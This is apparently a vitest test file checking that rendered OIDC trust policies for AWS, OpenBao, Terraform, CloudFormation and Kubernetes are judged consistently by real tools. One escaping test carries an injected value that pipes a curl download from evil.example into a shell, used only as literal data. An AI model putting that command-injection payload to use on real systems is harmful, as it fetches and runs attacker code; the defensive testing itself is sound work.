import { spawnSync } from 'node:child_process'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import type { TrustFile } from '../../packages/trust/src/file/model.ts'
import { readTrustFile } from '../../packages/trust/src/file/read.ts'
import { judgeDocument } from '../../packages/trust/src/judge.ts'
import type { Form, RenderedSystem } from '../../packages/trust/src/writers/forms.ts'
import { hclText } from '../../packages/trust/src/writers/hcl.ts'
import { render } from '../../packages/trust/src/writers/render.ts'
import { type Ci, identities } from '../support/identities.ts'
import { startIssuer } from '../support/issuer.ts'
import { matrices, ourVerdicts, ruleNames, systemsOfJobs, verdictsOf } from '../support/trust/jobs.ts'
import { audience, type Job } from '../support/trust/matrix.ts'
import { sourceOf } from '../support/trust-source.ts'
import { documentFrom } from '../trust/document-from.ts'
import { hermetic, scratch } from './hermetic.ts'
import { startOpenBao, trust } from './openbao.ts'
import { type Peer, peers, withPeers } from './peers.ts'
import { startWeed } from './weed.ts'

interface Statement {
  readonly Condition: Readonly<Record<string, Readonly<Record<string, string | readonly string[]>>>>
}

/** The statement of a rule's role, with other names in the place of AWS's condition keys. */
function conditionOf(ci: Ci, rule: string, keyOf: (claim: string) => string): Statement['Condition'] {
  const { file, issuerUrl } = matrices[ci]
  const { documents } = render(file, 'aws', 'json')
  const document = documents.find(({ name }) => name === `${rule}.trust.json`)
  const [statement] = JSON.parse(document?.text ?? '').Statement as [Statement]
  const host = `${issuerUrl.replace('https://', '')}:`
  return Object.fromEntries(
    Object.entries(statement.Condition).map(([operator, keys]) => [
      operator,
      Object.fromEntries(Object.entries(keys).map(([key, values]) => [keyOf(key.replace(host, '')), values])),
    ]),
  )
}

const usual = Object.fromEntries(Object.keys(identities.github.claims()).map((claim) => [claim, undefined]))

/** The claims that a job has beside those of the test's issuer, which is GitHub. Its other usual claims are removed. */
function tokenClaims(job: Job): Record<string, string | undefined> {
  const { iss, aud, ...own } = job
  return { ...usual, jti: crypto.randomUUID(), ...own }
}

/** One name for a rule of a CI system, on a server that has the rules of all of them. */
const nameOf = (ci: Ci, rule: string) => `${ci}-${rule}`

withPeers([peers.iamSimulate], 'rendered trust policies, judged by iam-simulate', () => {
  async function simulated(Condition: object, context: Readonly<Record<string, string>>): Promise<boolean> {
    const { runSimulation } = await import('@cloud-copilot/iam-simulate')
    const result = await runSimulation(
      {
        request: {
          principal: 'arn:aws:iam::111111111111:role/me',
          action: 's3:GetObject',
          resource: { resource: 'arn:aws:s3:::bucket/key', accountId: '111111111111' },
          // The simulator ignores the keys of ID tokens in an identity policy, and knows any tag.
          contextVariables: Object.fromEntries(
            Object.entries(context).map(([claim, value]) => [`aws:PrincipalTag/${claim}`, value]),
          ),
        },
        identityPolicies: [
          {
            name: 'trust',
            policy: {
              Version: '2012-10-17',
              Statement: [{ Effect: 'Allow', Action: 's3:GetObject', Resource: '*', Condition }],
            },
          },
        ],
        serviceControlPolicies: [],
        resourceControlPolicies: [],
      },
      { simulationMode: 'Strict' },
    )
    if (result.resultType === 'error') throw new Error(JSON.stringify(result.errors))
    return result.overallResult === 'Allowed'
  }

  test.each(systemsOfJobs)('all pairs of a rule and a job of %s: no disagreement', async (ci) => {
    const verdicts = await verdictsOf(ci, (rule, job) =>
      simulated(
        conditionOf(ci, rule, (claim) => `aws:PrincipalTag/${claim}`),
        job,
      ),
    )
    expect(verdicts).toEqual(await ourVerdicts(ci, 'aws'))
  })

  test('a value that looks like a variable or a pattern of a policy is itself', async () => {
    const variable = (name: string) => ['$', '{', name, '}'].join('')
    for (const name of [
      `x';curl${variable('IFS')}evil.example|sh;'`,
      variable('aws:username'),
      variable('$'),
      '$',
      '$$',
    ]) {
      const text = `version: 1
issuers: { github: { ids: { acme: 12, acme/api: 34 }, subject: immutable } }
rules: { deploy: { who: { github: acme/api, environment: ${JSON.stringify(name)} }, may: { aws: arn:aws:iam::111111111111:role/deploy } } }
`
      const { file } = readTrustFile(sourceOf(text))
      const [document] = render(file as TrustFile, 'aws', 'json').documents
      const wanted = JSON.parse(document?.text ?? '').Statement[0].Condition.StringEquals
      // The simulator knows these signs only under StringLike; AWS documents them for every text with variables.
      const value = wanted[`${matrices.github.issuerUrl.slice('https://'.length)}:environment`]
      const Condition = { StringLike: { 'aws:PrincipalTag/environment': value } }
      expect([name, await simulated(Condition, { environment: name })]).toEqual([name, true])
      expect([name, await simulated(Condition, { environment: `${name}x` })]).toEqual([name, false])
    }
  })
})

withPeers([peers.weed], "rendered trust policies, judged by SeaweedFS' STS", () => {
  test('all pairs of a rule and a job: no disagreement', async () => {
    const issuer = await startIssuer()
    const roles = systemsOfJobs.flatMap((ci) =>
      ruleNames(ci).map((rule) => ({
        name: nameOf(ci, rule),
        trust: { condition: conditionOf(ci, rule, (claim) => `oidc:${claim}`) },
        statements: [],
      })),
    )
    const weed = await startWeed(issuer.url, audience, roles)
    try {
      for (const ci of systemsOfJobs) {
        const verdicts = await verdictsOf(ci, async (rule, job) => {
          const body = new URLSearchParams({
            Action: 'AssumeRoleWithWebIdentity',
            Version: '2011-06-15',
            RoleArn: `arn:aws:iam::111111111111:role/${nameOf(ci, rule)}`,
            RoleSessionName: 'job',
            WebIdentityToken: await issuer.mint(audience, tokenClaims(job)),
          })
          const answer = await fetch(weed.url, { method: 'POST', body })
          const text = await answer.text()
          if (!answer.ok) expect(text).toContain('AccessDenied')
          return answer.ok
        })
        expect(verdicts).toEqual(await ourVerdicts(ci, 'aws'))
      }
    } finally {
      await weed.stop()
      await issuer.close()
    }
  })
})

withPeers([peers.openbao], 'rendered roles, judged by OpenBao', () => {
  test('all pairs of a rule and a job: no disagreement, and every member of a role is known', async () => {
    const [issuer, bao] = await Promise.all([startIssuer(), startOpenBao()])
    try {
      await trust(bao, issuer)
      for (const ci of systemsOfJobs) {
        for (const { name, text } of render(matrices[ci].file, 'vault', 'json').documents) {
          if (!name.endsWith('.role.json')) continue
          const role = JSON.parse(text)
          const path = `auth/jwt/role/${nameOf(ci, name.replace('.role.json', ''))}`
          await bao.set('POST', path, role)
          // The server accepts an unknown member in silence, and then does not show it.
          expect(Object.keys((await bao.set('GET', path)) ?? {})).toEqual(expect.arrayContaining(Object.keys(role)))
        }
        const verdicts = await verdictsOf(ci, async (rule, job) => {
          const jwt = await issuer.mint(audience, tokenClaims(job))
          const { status, body } = await bao.api('POST', 'auth/jwt/login', { role: nameOf(ci, rule), jwt })
          if (status !== 200) expect(body.errors?.join()).toMatch(/claim|subject/)
          return status === 200
        })
        expect(verdicts).toEqual(await ourVerdicts(ci, 'vault'))
      }
    } finally {
      await bao.stop()
      await issuer.close()
    }
  })

  test('claims of other kinds, and other issuers, are judged as the server does', async () => {
    const [issuer, bao] = await Promise.all([startIssuer(), startOpenBao()])
    try {
      await bao.set('POST', 'sys/auth/jwt', { type: 'jwt' })
      await bao.set('POST', 'auth/jwt/config', { oidc_discovery_url: issuer.url })
      const config = await bao.set('GET', 'auth/jwt/config')
      const judged = async (fields: object, claims: Readonly<Record<string, unknown>>) => {
        const none = { claim_mappings: {}, groups_claim: '', bound_claims: {} }
        const role = { ...none, role_type: 'jwt', user_claim: 'sub', bound_audiences: [audience], ...fields }
        await bao.set('POST', 'auth/jwt/role/role', role)
        const read = await bao.set('GET', 'auth/jwt/role/role')
        const jwt = await issuer.mint(audience, claims)
        const { status } = await bao.api('POST', 'auth/jwt/login', { role: 'role', jwt })
        const token = JSON.parse(Buffer.from(jwt.split('.')[1] ?? '', 'base64url').toString())
        return [judgeDocument(documentFrom([config, read]), token, 'whole').kind, status === 200]
      }
      const accepted = ['accepted', true]
      const refused = ['refused', false]
      expect(await judged({}, {})).toEqual(accepted)
      expect(await judged({ user_claim: 'x' }, { x: 5 })).toEqual(refused)
      expect(await judged({ user_claim: 'x' }, { x: '' })).toEqual(refused)
      expect(await judged({ claim_mappings: { x: 'x' } }, { x: 5 })).toEqual(refused)
      expect(await judged({ claim_mappings: { x: 'x' } }, {})).toEqual(accepted)
      expect(await judged({ claim_mappings: { aud: 'x' } }, {})).toEqual(refused)
      expect(await judged({ groups_claim: 'x' }, { x: ['a', 5] })).toEqual(refused)
      expect(await judged({ groups_claim: 'x' }, { x: ['a'] })).toEqual(accepted)
      expect(await judged({ groups_claim: 'x' }, { x: 'a' })).toEqual(accepted)
      expect(await judged({ groups_claim: 'x' }, {})).toEqual(refused)
      expect(await judged({ bound_claims: { x: 5 } }, { x: 5 })).toEqual(accepted)
      expect(await judged({ bound_claims: { x: 5 } }, { x: '5' })).toEqual(refused)
      // The key of the token decides, and the claims do not show it.
      expect(await judged({}, { iss: 'https://other.example.com' })).toEqual(['unjudged', true])
    } finally {
      await bao.stop()
      await issuer.close()
    }
  })
})

const examples = ['small', 'organisation', 'three-systems'].map((name) => {
  const { file } = readTrustFile(sourceOf(readFileSync(`test/support/trust/${name}.yml`, 'utf8')))
  return [name, file as TrustFile] as const
})

const files = [...examples, ...systemsOfJobs.map((ci) => [`jobs-of-${ci}`, matrices[ci].file] as const)]

/** Runs a checker over the rendered documents of all files. Each document is in a folder of its file and system. */
function checked<T>(system: RenderedSystem, form: Form, check: (folder: string, paths: string[]) => T): T {
  const folder = scratch()
  try {
    const paths = files.flatMap(([name, file]) => {
      const place = join(folder.path, name, system)
      mkdirSync(place, { recursive: true })
      return render(file, system, form).documents.map((document) => {
        const path = join(place, document.name)
        writeFileSync(path, document.text)
        return path
      })
    })
    return check(folder.path, paths)
  } finally {
    folder.remove()
  }
}

function run({ path }: Peer, args: readonly string[], cwd: string, input = '') {
  const { stdout, stderr, status } = spawnSync(path, args, { cwd, env: hermetic(cwd), encoding: 'utf8', input })
  return { stdout, stderr, status }
}

const silent = { stdout: '', stderr: '', status: 0 }

withPeers([peers.terraform], 'rendered Terraform, judged by Terraform', () => {
  test.each(['aws', 'gcp', 'azure', 'vault'] as const)(
    'every file for %s has the layout of terraform fmt',
    (system) => {
      const args = ['fmt', '-check', '-diff', '-recursive']
      expect(checked(system, 'terraform', (folder) => run(peers.terraform, args, folder))).toEqual(silent)
    },
  )

  test('Terraform reads every hostile text as itself', () => {
    const brace = (sign: string) => [sign, '{', 'x', '}'].join('')
    const texts = [...['$', '%', '$$', '%%'].map(brace), '$', '"', '\\', "'", '<<EOF', '#', '//', '*/', '\\n', 'ü']
    const folder = scratch()
    try {
      const expression = `jsonencode([${texts.map((text) => hclText(text)).join(', ')}])\n`
      const { stdout, stderr } = run(peers.terraform, ['console'], folder.path, expression)
      expect(stderr).toBe('')
      expect(JSON.parse(JSON.parse(stdout))).toEqual(texts)
    } finally {
      folder.remove()
    }
  })
})

withPeers([peers.cfnLint], 'rendered templates, judged by cfn-lint', () => {
  test('every template is accepted, and a wrong operator is not', () => {
    checked('aws', 'cloudformation', (folder, paths) => {
      expect(paths.length).toBeGreaterThan(10)
      expect(run(peers.cfnLint, paths, folder)).toEqual(silent)
      const wrong = join(folder, 'wrong.yml')
      const role = paths.find((path) => path.endsWith('deploy.yml')) ?? ''
      writeFileSync(wrong, readFileSync(role, 'utf8').replace('StringEquals:', 'StringEqual:'))
      expect(run(peers.cfnLint, [wrong], folder).stdout).toContain('E3530')
    })
  })
})

withPeers([peers.kubernetesGo], "rendered configurations, judged by Kubernetes' validator", () => {
  test('every configuration is accepted, and a misspelt member is not', () => {
    checked('kubernetes', 'yaml', (folder, paths) => {
      const configurations = paths.filter((path) => path.endsWith('.authentication.yml'))
      const wrong = join(folder, 'wrong.yml')
      const [one = ''] = configurations
      writeFileSync(wrong, readFileSync(one, 'utf8').replace('claimMappings:', 'claimMapping:'))
      const { stdout } = run(peers.kubernetesGo, [...configurations, wrong], folder)
      const accepted = configurations.map(() => 'ok')
      expect(stdout.trim().split('\n')).toEqual([...accepted, expect.stringContaining('claimMapping')])
    })
  })
})
